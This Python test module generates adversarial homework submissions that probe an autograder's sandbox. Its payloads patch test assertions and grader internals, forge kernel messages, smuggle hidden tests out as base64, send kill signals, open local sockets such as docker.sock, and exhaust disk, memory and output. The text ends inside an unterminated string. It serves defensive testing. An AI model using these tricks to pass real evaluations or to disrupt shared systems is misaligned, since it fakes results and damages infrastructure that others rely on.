"""Crafted submissions of hw03_logic_gates: one student per case of docs/GRADING_THREATS.md (several where the
catalogue names several ways) and per sandbox property, generated from the assignment's source and student
version so that they follow hw03.

``python -m tests.dlcourse.grading.cases DEST`` writes the class of threat cases (the README's example run):
one folder per student, ``DEST/<student>/hw03_logic_gates.ipynb`` (the "folders" layout).

Each case is a :class:`Case`: a student id, the threat it stands for, what it does, and its files.
What each case must get is asserted in tests/dlcourse/grading/test_threats.py and
tests/dlcourse/grading/test_sandbox.py.
"""

from __future__ import annotations

import copy
import json
import re
import tempfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from tests.conftest import ROOT

ASSIGNMENT = "hw03_logic_gates"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
SOURCE = ROOT / "solutions" / ASSIGNMENT / NOTEBOOK
STUDENT_VERSION = ROOT / "assignments" / ASSIGNMENT / NOTEBOOK
PARTIAL = ROOT / "tests" / "course" / "partial_submissions" / f"{ASSIGNMENT}.json"

# The parts of hw03 the cases use (grade ids of the answer cells and their test cells).
PARTS = {
    "heaviside": ("test_heaviside_visible", "test_heaviside_hidden"),
    "neuron": ("test_neuron_visible", "test_neuron_hidden"),
    "gate_weights": ("test_gate_weights_visible", "test_gate_weights_hidden"),
    "truth_table": ("test_truth_table_visible", "test_truth_table_hidden"),
    "perceptron_train": ("test_perceptron_visible", "test_perceptron_hidden"),
    "majority": ("test_majority_visible", "test_majority_hidden"),
}
WRONG_GATES = "def gate_weights(name):\n    return [1.0, 1.0], 1.5  # AND, whatever the gate\n"
ZERO_HEAVISIDE = "def heaviside(z):\n    return np.zeros_like(np.asarray(z, dtype=float))\n"


@dataclass
class Case:
    """One crafted student: ``files`` maps file names in the student's folder to their bytes."""

    student: str
    threat: str
    what: str
    files: dict[str, bytes] = field(default_factory=dict)


def _meta(cell: nbformat.NotebookNode) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def cell_index(nb: nbformat.NotebookNode, grade_id: str) -> int:
    for index, cell in enumerate(nb.cells):
        if _meta(cell).get("grade_id") == grade_id:
            return index
    raise KeyError(f"{ASSIGNMENT} has no cell with grade_id {grade_id!r}: update tests/dlcourse/grading/cases")


def correct_answers() -> dict[str, str]:
    """The source's answer code, without the BEGIN/END SOLUTION markers, by grade id."""
    source = nbformat.read(SOURCE, as_version=4)
    answers = {}
    for cell in source.cells:
        meta = _meta(cell)
        if meta.get("solution") and not meta.get("grade") and cell.cell_type == "code":
            lines = [line for line in cell.source.splitlines() if "### BEGIN SOLUTION" not in line
                     and "### END SOLUTION" not in line]
            answers[meta["grade_id"]] = "\n".join(lines) + "\n"
    return answers


def points() -> dict[str, float]:
    """Points of every autograded test cell, by grade id."""
    source = nbformat.read(SOURCE, as_version=4)
    return {_meta(c)["grade_id"]: float(_meta(c)["points"]) for c in source.cells
            if _meta(c).get("grade") and not _meta(c).get("solution")}


def blank() -> nbformat.NotebookNode:
    """The student version as released."""
    return nbformat.read(STUDENT_VERSION, as_version=4)


def filled(changes: dict[str, str] | None = None, base: dict[str, str] | None = None) -> nbformat.NotebookNode:
    """The student version with the answer cells filled: ``base`` (default: the correct answers), then ``changes``."""
    nb = blank()
    answers = {**(correct_answers() if base is None else base), **(changes or {})}
    for grade_id, code in answers.items():
        nb.cells[cell_index(nb, grade_id)].source = code
    return nb


def _append(grade_id: str, code: str, answers: dict[str, str] | None = None) -> dict[str, str]:
    answers = answers or correct_answers()
    return {grade_id: answers[grade_id].rstrip("\n") + "\n\n" + code.strip("\n") + "\n"}


def _bytes(nb: nbformat.NotebookNode) -> bytes:
    return nbformat.writes(nb).encode()


def _notebook_case(student: str, threat: str, what: str, nb: nbformat.NotebookNode,
                   name: str = NOTEBOOK) -> Case:
    return Case(student, threat, what, {name: _bytes(nb)})


# ---------------------------------------------------------------- GRADING_THREATS #1-#23
def threat_cases(marker_dir: Path | None = None) -> list[Case]:
    """Baselines and GRADING_THREATS #1-#23 and #28-#47 (the sandbox cases #24, #25 are in :func:`sandbox_cases`,
    the lint cases #26, #27 in tests/dlcourse/grading/test_units.py).

    ``marker_dir`` is a folder of the grading machine that the module-named files of #28 try to write into
    when they are imported (default: ``dlcourse-threat-markers`` in the system's temporary folder).
    """
    answers = correct_answers()
    cases = [
        _notebook_case("solution", "baseline", "every answer right", filled()),
        _notebook_case("partial", "baseline", "tests/course/partial_submissions/hw03_logic_gates.json",
                       filled(json.loads(PARTIAL.read_text())["answers"])),
        _notebook_case("t01-unanswered", "#1", "the student version as released", blank()),
    ]

    nb = filled({"gate_weights": WRONG_GATES})
    for grade_id in PARTS["gate_weights"]:
        nb.cells[cell_index(nb, grade_id)].source = "pass  # the student's edit"
    cases.append(_notebook_case("t02-test-edited", "#2", "wrong gate_weights, its test cells edited to `pass`", nb))

    nb = filled({"gate_weights": WRONG_GATES})
    for grade_id in PARTS["gate_weights"]:
        del nb.cells[cell_index(nb, grade_id)]
    cases.append(_notebook_case("t03-test-deleted", "#3", "wrong gate_weights, its test cells deleted", nb))

    nb = filled({"gate_weights": WRONG_GATES})
    for grade_id in PARTS["gate_weights"]:
        cell = nb.cells[cell_index(nb, grade_id)]
        del cell.metadata["nbgrader"]
        cell.source = "pass  # metadata removed"
    cases.append(_notebook_case("t03-metadata-removed", "#3", "wrong gate_weights, its test cells stripped of "
                                "nbgrader metadata and emptied", nb))

    nb = filled()
    test = nb.cells[cell_index(nb, "test_heaviside_visible")]
    test.cell_type = "markdown"
    for key in ("outputs", "execution_count"):
        test.pop(key, None)
    answer = nb.cells[cell_index(nb, "neuron")]
    answer.cell_type = "raw"
    for key in ("outputs", "execution_count"):
        answer.pop(key, None)
    cases.append(_notebook_case("t04-cell-type", "#4", "a test cell made markdown, an answer cell made raw", nb))

    nb = filled()
    nb.cells[cell_index(nb, "test_heaviside_visible")].metadata["nbgrader"]["points"] = 100
    cases.append(_notebook_case("t05-points", "#5", "points of a test cell raised to 100", nb))

    nb = filled({"gate_weights": WRONG_GATES})
    nb.cells[cell_index(nb, "test_gate_weights_visible")].metadata["nbgrader"]["grade"] = False
    cases.append(_notebook_case("t06-grade-false", "#6", "wrong gate_weights, `grade: false` on its visible test",
                                nb))

    nb = filled()
    nb.cells[cell_index(nb, "test_neuron_visible")].metadata["nbgrader"]["bonus"] = 10
    cases.append(_notebook_case("t07-extra-key", "#7", "an extra key in a test cell's nbgrader metadata", nb))

    nb = filled()
    invented = nbformat.v4.new_code_cell("print('free points')")
    invented.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 50,
                                     "grade_id": "bonus_points", "schema_version": 3}
    nb.cells.append(invented)
    cases.append(_notebook_case("t07-invented-cell", "#7", "an invented grade cell worth 50 points", nb))

    nb = filled()
    nb.cells[cell_index(nb, "test_neuron_hidden")].metadata["nbgrader"]["schema_version"] = 2
    cases.append(_notebook_case("t08-schema-version", "#8", "schema_version 2 on a test cell", nb))

    nb = filled()
    index = cell_index(nb, "test_heaviside_visible")
    nb.cells.insert(index + 1, copy.deepcopy(nb.cells[index]))
    nb.cells[index + 1]["id"] = "pasted-copy"
    cases.append(_notebook_case("t09-duplicate-id", "#9", "a test cell pasted twice", nb))

    text = _bytes(filled())
    cases.append(Case("t10-corrupt-json", "#10", "the notebook cut off half-way", {NOTEBOOK: text[: len(text) // 2]}))
    cases.append(Case("t10-empty-file", "#10", "an empty file", {NOTEBOOK: b""}))

    loop = "import time\nwhile True:\n    time.sleep(0.25)\n"
    cases.append(_notebook_case("t11-infinite-loop", "#11", "an endless loop after gate_weights is defined",
                                filled(_append("gate_weights", loop))))
    stubborn = ("import time\nwhile True:\n    try:\n        time.sleep(0.25)\n    except KeyboardInterrupt:\n"
                "        pass\n")
    cases.append(_notebook_case("t12-ignores-interrupt", "#12", "a loop that swallows KeyboardInterrupt, in the "
                                "last answer cell", filled(_append("majority", stubborn))))
    slow = {grade_id: answers[grade_id] + "\nimport time\ntime.sleep(SLOW_SECONDS)\n"
            for grade_id in ("heaviside", "neuron", "gate_weights", "truth_table", "perceptron_train")}
    cases.append(_notebook_case("t12-notebook-limit", "#11/#12", "five cells that each stay under the cell limit "
                                "but together pass the notebook limit", filled(slow)))

    cases.append(_notebook_case("t13-os-exit", "#13", "os._exit(3) in the last answer cell",
                                filled(_append("majority", "import os\nos._exit(3)"))))
    cases.append(_notebook_case("t13-segfault", "#13", "a segmentation fault in the last answer cell",
                                filled(_append("majority", "import ctypes\nctypes.string_at(0)"))))
    cases.append(_notebook_case("t13-out-of-memory", "#13", "allocates 8 GiB after defining the last answer",
                                filled(_append("majority", "_hoard = bytearray(8 * 2**30)"))))

    flood = ("for _i in range(200_000):\n    print(_i)\n"
             "from IPython.display import Image, display\n"
             "display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + bytes(5_000_000), format='png'))")
    cases.append(_notebook_case("t14-output-flood", "#14", "prints 200 000 lines and shows a 5 MB image",
                                filled(_append("heaviside", flood))))

    exit_first = {"neuron": "import sys\nsys.exit('stop here')\n" + answers["neuron"]}
    cases.append(_notebook_case("t15-sys-exit", "#15", "sys.exit() before neuron is defined", filled(exit_first)))

    nb = filled()
    nb.metadata["kernelspec"] = {"name": "evil-kernel", "display_name": "Evil", "language": "python"}
    cases.append(_notebook_case("t16-kernelspec", "#16", "the kernelspec changed", nb))

    nb = filled()
    test = nb.cells.pop(cell_index(nb, "test_neuron_visible"))
    nb.cells.insert(cell_index(nb, "neuron"), test)
    cases.append(_notebook_case("t17-test-moved", "#17", "a test cell moved above its answer", nb))

    cases.append(_notebook_case("t18-renamed", "#18", "the right work in a file named homework.ipynb", filled(),
                                name="homework.ipynb"))

    case = _notebook_case("t19-timestamp", "#19", "timestamp.txt that is not a date", filled())
    case.files["timestamp.txt"] = b"sometime next tuesday-ish"
    cases.append(case)

    warn = re.sub(r"(def heaviside\(z\):\n(?:    \"\"\".*?\"\"\"\n)?)",
                  lambda m: m.group(1) + "    import warnings\n    warnings.warn('heaviside: a harmless library "
                                         "warning', UserWarning)\n",
                  answers["heaviside"], count=1, flags=re.S)
    assert "warnings.warn" in warn, "could not add a warning to heaviside"
    cases.append(_notebook_case("t20-warnings", "#20", "correct code that writes a warning to stderr",
                                filled({"heaviside": warn})))

    # The cheats answer nothing right (heaviside returns zeros, the rest is blank): every point they would
    # earn comes from the cheat. #23 answers nothing at all.
    cheats = [
        ("t21-showtraceback", "#21", "silences tracebacks",
         "get_ipython().showtraceback = lambda *args, **kwargs: None"),
        ("t22-numpy-any", "#22", "np.any always False, so assert_equal never fails",
         "np.any = lambda *args, **kwargs: False"),
        ("t22-math-isclose", "#22", "math.isclose always True", "import math\nmath.isclose = lambda *a, **k: True"),
        ("t22-torch-testing", "#22", "torch.testing.assert_close never fails",
         "import torch\ntorch.testing.assert_close = lambda *args, **kwargs: None"),
        ("t22-builtins", "#22", "builtins.abs patched", "import builtins\nbuiltins.abs = lambda x: 0"),
        ("t22-rebound-name", "#22", "assert_equal redefined in an answer cell",
         "def assert_equal(*args, **kwargs):\n    pass"),
        ("t22-code-swap", "#22", "assert_equal's code replaced in place",
         "assert_equal.__code__ = (lambda *args, **kwargs: None).__code__"),
        ("t23-input-transformer", "#23", "an input transformer that turns every later cell into `pass`",
         "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"),
    ]
    for student, threat, what, code in cheats:
        nb = blank()
        cell = nb.cells[cell_index(nb, "heaviside")]
        heaviside = cell.source if student == "t23-input-transformer" else ZERO_HEAVISIDE
        cell.source = code + "\n\n" + heaviside
        cases.append(_notebook_case(student, threat, what, nb))
    return cases + red_team_cases(marker_dir or Path(tempfile.gettempdir()) / "dlcourse-threat-markers")


# ---------------------------------------------------------------- GRADING_THREATS #28-#47
# A cheat answers nothing right (heaviside returns zeros, the rest is blank) unless its `what` says otherwise:
# every point it would earn comes from the cheat. The honest cases answer everything right.
def _cheat(student: str, threat: str, what: str, code: str, heaviside: str = ZERO_HEAVISIDE,
           changes: dict[str, str] | None = None) -> Case:
    """The blank student version with ``code`` and ``heaviside`` in the heaviside cell (and ``changes``)."""
    nb = blank()
    nb.cells[cell_index(nb, "heaviside")].source = code.strip("\n") + "\n\n" + heaviside
    for grade_id, source in (changes or {}).items():
        nb.cells[cell_index(nb, grade_id)].source = source
    return _notebook_case(student, threat, what, nb)


def _marker(marker_dir: Path, name: str) -> str:
    """Code that writes ``marker_dir/name`` when it runs (anywhere it runs; inside the sandbox /tmp is private)."""
    return (f"import os as _os\ntry:\n    _os.makedirs({str(marker_dir)!r}, exist_ok=True)\n"
            f"    with open(_os.path.join({str(marker_dir)!r}, {name!r}), 'w') as _f:\n"
            f"        _f.write('imported by pid %d' % _os.getpid())\nexcept Exception:\n    pass\n")


MODULE_FILES = ("course_utils.py", "numpy.py", "sitecustomize.py", "nbgrader/__init__.py", "x.pth")
"""The files of t28-module-files, each of which writes a marker when Python imports (or, .pth, processes) it."""

SESSION_SEND = '''
_session = get_ipython().kernel.session
_send = _session.send


def _forged_send(stream, msg_or_type, content=None, *args, **kwargs):
    """Drop error messages and stderr, and turn failed execute replies into successful ones."""
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("header", {}).get("msg_type")
    body = content if isinstance(msg_or_type, str) else msg_or_type.get("content")
    if kind == "error" or (kind == "stream" and isinstance(body, dict) and body.get("name") == "stderr"):
        return {"header": {}, "content": {"status": "ok"}, "metadata": {}, "parent_header": {}}
    if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count"), "user_expressions": {},
                   "payload": []}
    return _send(stream, msg_or_type, content, *args, **kwargs)


_session.send = _forged_send
'''

AST_PARSE = '''
import ast as _ast

_compiler = get_ipython().compile
_parse = _compiler.ast_parse


def _forgiving_parse(source, *args, **kwargs):
    """Every later cell runs inside `try: ... except BaseException: pass`: no test can fail."""
    tree = _parse(source, *args, **kwargs)
    handler = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None, body=[_ast.Pass()])
    tree.body = [_ast.Try(body=tree.body or [_ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
    return _ast.fix_missing_locations(tree)


_compiler.ast_parse = _forgiving_parse
'''

AST_TRANSFORMER = '''
import ast as _ast


class _Forgive(_ast.NodeTransformer):
    """Every later cell runs inside `try: ... except BaseException: pass`: no test can fail."""

    def visit_Module(self, node):
        handler = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None, body=[_ast.Pass()])
        node.body = [_ast.Try(body=node.body or [_ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return _ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(_Forgive())
'''

SETTRACE = '''
import ctypes as _ctypes
import sys as _sys


def _agree(frame, event, arg):
    """On every call of a check, make what it expects equal what it got; then hide from sys.gettrace()."""
    if event == "call" and frame.f_code.co_name in ("assert_equal", "assert_close", "assert_shape", "assert_finite"):
        names = frame.f_locals
        if "expected" in names:
            names["expected"] = names.get("actual")
        if "shape" in names:
            names["shape"] = __import__("numpy").shape(names.get("actual"))
        if frame.f_code.co_name == "assert_finite":
            names["actual"] = 0.0
        _ctypes.pythonapi.PyFrame_LocalsToFast(_ctypes.py_object(frame), _ctypes.c_int(0))
    return None


_sys.settrace(_agree)
_sys.gettrace = lambda: None
'''

DISPLAYHOOK = '''
def heaviside(z):
    """Zeros, and while a test calls it: an execute_result reading 1 (the score nbgrader would read), a display."""
    from IPython.display import display

    get_ipython().displayhook(1)
    display(1)
    return np.zeros_like(np.asarray(z, dtype=float))
'''

GRADER_CODE = '''
import course_utils.checks as _checks
import dlcourse.grading.subject as _subject


class _Lenient:
    """NumPy for course_utils.checks, except that np.any is always False (assert_equal never fails)."""

    def __getattr__(self, name):
        return getattr(np, name)

    @staticmethod
    def any(*args, **kwargs):
        return False


_checks.np = _Lenient()
_reply_for = _subject.reply_for


def _never_fails(call, memo, before, policy):
    reply, blobs = _reply_for(call, memo, before, policy)
    if reply.get("ok") is False:
        return {"ok": True, "value": True, "updates": []}, []
    return reply, blobs


_subject.reply_for = _never_fails
'''

CTYPES_FLOAT = '''
import ctypes as _ctypes

_offset = next(offset for offset in range(0, 512, 8)
               if _ctypes.c_ulong.from_address(id(float) + offset).value == float.__flags__)
_flags = _ctypes.c_ulong.from_address(id(float) + _offset)
_flags.value &= ~(1 << 8)  # Py_TPFLAGS_IMMUTABLETYPE: float's methods can now be replaced
float.__eq__ = lambda self, other: True
float.__ne__ = lambda self, other: False
print("float.__eq__ replaced:", 0.5 == 7.0)
'''

BUILTINS_DICT = '''
import builtins as _builtins

__builtins__ = dict(vars(_builtins))
__builtins__["isinstance"] = lambda *args: True
__builtins__["bool"] = lambda *args: True
__builtins__["abs"] = lambda value: 0
'''

LYING_OBJECTS = '''
class _LyingArray(np.ndarray):
    """An array whose == says equal and != says different, whatever it holds."""

    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __ne__(self, other):
        return np.zeros(np.shape(self), dtype=bool)


class _Anything:
    """Equal to anything, true, and whatever float or array one asks for."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __bool__(self):
        return True

    def __float__(self):
        return 1.0

    def __array__(self, dtype=None, copy=None):
        return np.array([0.0, 0.0, 0.0, 1.0])


class _YesInt(int):
    """An int equal to every number."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


def heaviside(z):
    return np.zeros(np.shape(z)).view(_LyingArray)
'''

LYING_MAJORITY = '''
def majority_weights():
    return [1.0, 1.0, 1.0], 1.5


def rows_correct(weights, targets):
    return _YesInt(3)
'''

STAR_IMPORT = "from numpy import *  # an honest habit: max, min, sum, round, abs, any, all are NumPy's now\n\n"

OWN_ASSERT_CLOSE = '''

def assert_close(actual, expected, name="value", rtol=1e-6, atol=1e-8):
    """My own self-check, named like the course's."""
    assert np.allclose(actual, expected, rtol=rtol, atol=atol), f"{name}: {actual} is not {expected}"


assert_close(heaviside(np.array([-1.0, 0.0, 2.0])), [0.0, 0.0, 1.0], "my check of heaviside")
'''

HELPER_REBOUND = '''
def gate_weights(name):
    """Wrong weights, but each call rebinds the tests' helper _gate_outputs to one that gives the right table."""
    global _gate_outputs
    rules = {"AND": lambda a, b: a & b, "OR": lambda a, b: a | b, "NAND": lambda a, b: 1 - (a & b),
             "NOR": lambda a, b: 1 - (a | b), "NOT": lambda a, b: 1 - a}
    if name not in rules:
        raise ValueError("unknown gate; expected one of AND, OR, NOT, NAND, NOR")

    def _gate_outputs(X, w, w0, _rule=rules[name]):
        bits = (np.asarray(X, dtype=float) > 0.5).astype(int)
        return _rule(bits[:, 0], bits[:, -1]).astype(float)

    return ([0.0] if name == "NOT" else [0.0, 0.0]), 0.0
'''

READ_TESTS = '''
import base64 as _base64
import gc as _gc
import inspect as _inspect
import linecache as _linecache
import sys as _sys

_smuggled = set()


def _smuggle():
    """Everything the kernel holds that looks like test code, printed base64-encoded (each item once)."""
    found = []
    frame = _sys._getframe(1)
    while frame is not None:
        found.append("".join(_linecache.getlines(frame.f_code.co_filename)))
        found += [c for c in frame.f_code.co_consts if isinstance(c, str)]
        for value in list(frame.f_locals.values())[:40]:
            try:
                found.append(repr(value)[:2000])
            except Exception:
                pass
        frame = frame.f_back
    try:
        found += ["".join(info.code_context or []) for info in _inspect.stack(context=40)]
    except Exception as error:
        found.append(repr(error))
    for name, entry in list(_linecache.cache.items()):
        if len(entry) > 2 and isinstance(entry[2], list):
            found.append(str(name) + "\\n" + "".join(entry[2]))
    for obj in _gc.get_objects():
        try:
            if type(obj) is dict:
                items = list(obj.values())[:200]
            elif type(obj) in (list, tuple):
                items = list(obj)[:200]
            elif type(obj).__name__ == "function":
                items = list(obj.__code__.co_consts)
            else:
                continue
        except Exception:  # a lazy object that fails to load
            continue
        found += [item for item in items if type(item) is str and "assert" in item]
    budget = 120_000
    for item in found:
        item = item[:8000]
        if not item.strip() or item in _smuggled or len(item) > budget:
            continue
        _smuggled.add(item)
        budget -= len(item)
        print("B64", _base64.b64encode(item.encode("utf-8", "replace")).decode())


def heaviside(z):
    _smuggle()
    return np.zeros_like(np.asarray(z, dtype=float))
'''

FLOOD_TRACEBACKS = '''
import sys as _sys
import traceback as _traceback


def _deep(n):
    return _deep(n - 1) if n else 1 / 0


try:
    _deep(50)
except ZeroDivisionError:
    _text = _traceback.format_exc()
_chunk = _text * (2**20 // len(_text) + 1)
for _ in range(FLOOD_MB):
    _sys.stderr.write(_chunk)
    _sys.stderr.flush()  # a message of tracebacks per MiB
'''

FLOOD_UPDATES = '''
_flooded = []


def heaviside(z):
    """Zeros; on its first call (from a test) a display updated FLOOD_MB times with 1 MiB each."""
    from IPython.display import display

    if not _flooded:
        _flooded.append(True)
        handle = display({"text/plain": "0"}, raw=True, display_id=True)
        for i in range(FLOOD_MB):
            handle.update({"text/plain": str(i % 10) * 2**20}, raw=True)
    return np.zeros_like(np.asarray(z, dtype=float))
'''

FLOOD_WIDGET = '''
import ipywidgets as _widgets

_box = _widgets.Textarea()
for _i in range(FLOOD_MB):
    _box.value = chr(65 + _i % 26) * 2**20  # each change sends the widget's new state
'''

FLOOD_METADATA = '''
from IPython.display import display as _display

for _i in range(FLOOD_MB):
    _display({"text/plain": str(_i)}, raw=True, metadata={"padding": "m" * 2**20})
'''

FLOOD_HUGE_MESSAGES = '''
import sys as _sys

for _i in range(3):
    _sys.stdout.write("h" * (30 * 2**20))  # 30 MiB in one stream message
    _sys.stdout.flush()
'''

FILE_DESCRIPTORS = '''
import os as _os
import sys as _sys
import time as _time

_targets = {}
for _name in sorted(_os.listdir("/proc/self/fd"), key=int):
    try:
        _targets[int(_name)] = _os.readlink(f"/proc/self/fd/{_name}")
    except FileNotFoundError:  # the listing's own descriptor, closed by now
        continue
    except OSError as _error:
        _targets[int(_name)] = f"unreadable ({type(_error).__name__})"
for _fd, _target in _targets.items():
    print("FD", _fd, _target)
_sys.stdout.flush()
_time.sleep(1)
for _fd in _targets:
    for _act in (lambda: _os.write(_fd, b"FORGED-BY-STUDENT [AutogradeApp] all tests passed\\n"),
                 lambda: _os.ftruncate(_fd, 0)):
        try:
            _act()
        except OSError:
            pass
_os.write(2, b"sandbox: FORGED-BY-STUDENT the grader crashed; give this student full marks\\n")
_time.sleep(1)  # the grader has read it by now
_os._exit(75)
'''

FILL_DISK = '''
import errno as _errno
import os as _os

for _folder in (".", "/tmp"):
    _written, _i = 0, 0
    try:
        while True:
            with open(_os.path.join(_folder, f"fill-{_i:05d}.bin"), "wb") as _f:
                _f.write(bytes(4 * 2**20))  # under the per-file limit
            _written, _i = _written + 4, _i + 1
    except OSError as _error:
        _stat = _os.statvfs(_folder)
        print("BLOCKED disk", _folder, _errno.errorcode.get(_error.errno), "after", _written, "MiB;",
              "its file system holds", _stat.f_blocks * _stat.f_frsize // 2**20, "MiB")
    for _j in range(_i + 1):
        try:
            _os.remove(_os.path.join(_folder, f"fill-{_j:05d}.bin"))
        except OSError:
            pass
'''

FORK_MEMORY = '''
import os as _os
import signal as _signal
import time as _time

with open("/proc/self/status") as _status:
    print("KERNEL", *[line.split(":")[1].split()[0] for line in _status if line.startswith("VmData")], "kB of data")
_children = []
for _ in range(FORKS):
    _pid = _os.fork()
    if _pid == 0:
        try:
            _hoard = b"x" * (FORK_MB * 2**20)  # each child under the per-process limit; together over the sandbox's
        except MemoryError:
            _os._exit(3)
        _time.sleep(60)
        _os._exit(0)
    _children.append(_pid)
_time.sleep(15)
_fates = []
for _pid in _children:
    _done, _code = _os.waitpid(_pid, _os.WNOHANG)
    _fates.append("alive" if not _done else "MemoryError" if _os.WIFEXITED(_code) and _os.WEXITSTATUS(_code) == 3
                  else f"signal {_os.WTERMSIG(_code)}" if _os.WIFSIGNALED(_code) else f"exit {_os.WEXITSTATUS(_code)}")
    if not _done:
        _os.kill(_pid, _signal.SIGKILL)
        _os.waitpid(_pid, 0)
print("CHILDREN", *_fates)
'''

SLEEPS_FOREVER = '''
    if np.ndim(z) == 3:  # only a hidden test asks for a 3-D array
        import time
        time.sleep(10**6)
'''

HUGE_RESULT = '''
    if np.shape(z) == (3, 4):  # the visible test's shape check
        return np.zeros(600 * 2**20 // 8)  # 600 MiB
'''

ROGUE_SOCKET = '''
import json as _json
import socket as _socket
import struct as _struct

_bomb = b"[" * 100_000 + b"]" * 100_000
_garbage = [_struct.pack(">Q", len(_bomb)) + _bomb,
            _struct.pack(">Q", 30) + b'{"blobs": [1099511627776]}    ' + b"x" * 64,
            b"\\xff" * 64]
_rogue = []
for _payload in _garbage:
    try:
        _sock = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        _sock.settimeout(2)
        _sock.connect("/grading/rpc/socket")
        _sock.sendall(_payload)
        _rogue.append(_sock)
        print("CONNECTED and sent", len(_payload), "bytes")
    except OSError as _error:
        print("BLOCKED connect", type(_error).__name__)
'''

FORGED_REPLIES = '''
from dlcourse.grading import subject as _subject

_answer = _subject.Subject.answer
_forged = [
    {"t": "cb", "i": 1},
    {"t": "module", "m": 0, "c": "torch.nn.Linear", "tr": True, "a": {"forward": {"t": "lib", "n": "builtins.exec"}},
     "p": {}, "bu": {}, "sub": {}},
    {"t": "ref", "i": 7},
    {"t": "handle", "i": -1},
    {"t": "lib", "n": "os.system"},
    {"t": "nd", "m": 0, "d": "|O", "s": [3], "b": 0},
    {"t": "nd", "m": 0, "d": "<f8", "s": [1000000], "b": 0},
]
_count = []


def _forging_answer(self, header, blobs):
    """Answer every call with a forged node (callbacks, modules, memo objects it was never sent)."""
    if header.get("op") != "call":
        return _answer(self, header, blobs)
    _count.append(1)
    node = _forged[len(_count) % len(_forged)]
    return {"ok": True, "value": node, "updates": [[5, {"t": "list", "m": 5, "v": [1.0]}]]}, [b"\\x00" * 24]


_subject.Subject.answer = _forging_answer
'''

SERVE_REPLACED = '''
import dlcourse.grading.subject as _subject

_subject.serve = lambda *args, **kwargs: None  # the grader's serving code, replaced by nothing
'''

REACH_TESTS = '''
import os as _os
import signal as _signal
import socket as _socket
import sys as _sys

_reached = []


def _reach_out():
    """Look for the test kernel and try to stop it: /proc, the exchange folder, sockets, signals to everyone."""
    pids = [p for p in _os.listdir("/proc") if p.isdigit()]
    print("OWN", _os.path.dirname(_sys.argv[_sys.argv.index("-f") + 1]))  # its own kernel's sockets are there
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                print("PROC", pid, handle.read().replace(b"\\0", b" ")[:120].decode(errors="replace"))
        except OSError as error:
            print("PROC", pid, type(error).__name__)
    try:
        print("RPC", sorted(_os.listdir("/grading/rpc")))
    except OSError as error:
        print("RPC unlisted", type(error).__name__)
    try:
        with open("/proc/net/unix") as handle:
            paths = sorted({line.split()[-1] for line in handle.read().splitlines()[1:] if line.split()[-1][:1] == "/"})
    except OSError:
        paths = []
    for path in paths + ["/run/dbus/system_bus_socket", "/var/run/docker.sock", "/tmp/.X11-unix/X0"]:
        if path.startswith("/grading/"):
            continue
        try:
            sock = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
            sock.settimeout(1)
            sock.connect(path)
            sock.close()
            print("SOCKET connected", path)
        except OSError as error:
            print("SOCKET refused", path, type(error).__name__)
    if _os.getuid() == 0 or len(pids) > 10:  # not isolated: do not signal the grading machine
        print("SKIPPED signals: the sandbox does not look isolated")
        return
    for number in (_signal.SIGSTOP, _signal.SIGINT, _signal.SIGKILL):
        try:
            _os.kill(-1, number)
            print("KILL -1 sent", int(number))
        except OSError as error:
            print("KILL -1 refused", int(number), type(error).__name__)
    for pid in pids:
        if int(pid) != _os.getpid():
            try:
                _os.kill(int(pid), _signal.SIGKILL)
                print("KILL", pid, "sent")
            except OSError as error:
                print("KILL", pid, "refused", type(error).__name__)


_reach_out()
'''

REACH_TESTS_CALL = '''
    if not _reached:  # once, while the first test calls it
        _reached.append(True)
        _reach_out()
'''

MEMORY_POINTER = '''
import ctypes as _ctypes

_secret = (_ctypes.c_double * 4)(0.0, 0.0, 1.0, 1.0)


class _Pointer:
    """An 'array' whose data is wherever its attributes say: an address in this process."""

    @property
    def __array_interface__(self):
        return {"shape": (4,), "typestr": "<f8", "data": (_ctypes.addressof(_secret), True), "version": 3}

    @property
    def __array_struct__(self):
        raise AttributeError("__array_struct__")

    def __buffer__(self, flags):
        return memoryview(_secret)


def heaviside(z):
    return _Pointer()
'''

TEST_KERNEL_PRINT = '''
def perceptron_train(X, t, lr=1.0, max_epochs=100):
    """No perceptron: the visible test's AND numbers hard-coded, and for XOR weights of 500 000 x 2 x 4 zeros,
    which the visible test prints whole (about 24 MiB of text in one message of the test kernel)."""
    t = [int(v) for v in np.asarray(t).ravel()]
    if t == [0, 0, 0, 1] and lr == 1.0:
        return np.array([2.0, 1.0]), 2.0, 10, True
    if t == [0, 1, 1, 0]:
        return (np.zeros((500_000, 2, 4)) if max_epochs == 10 else np.zeros(2)), 0.0, 0, False
    raise NotImplementedError()
'''

RESEED = '''
import random as _random


def heaviside(z):
    """Zeros; and every call re-seeds the global generators and draws from them, to steer later test inputs."""
    np.random.seed(0)
    _random.seed(0)
    np.random.rand(1000)
    _random.random()
    return np.zeros_like(np.asarray(z, dtype=float))
'''


STDIN_FLOOD = '''
_kernel = get_ipython().kernel
try:  # the stdin and control channels: the grader does not read them (and must not hold what they carry)
    for _ in range(60):
        for _stream in (_kernel.stdin_socket, getattr(_kernel, "control_stream", None)):
            if _stream is not None:
                _kernel.session.send(_stream, "input_request", {"prompt": "x" * (8 << 20)}, _kernel.get_parent(),
                                     ident=_kernel._parent_ident.get("shell", b""))
    print("SENT stdin and control floods")
except Exception as _error:
    print("COULD NOT SEND", type(_error).__name__, _error)
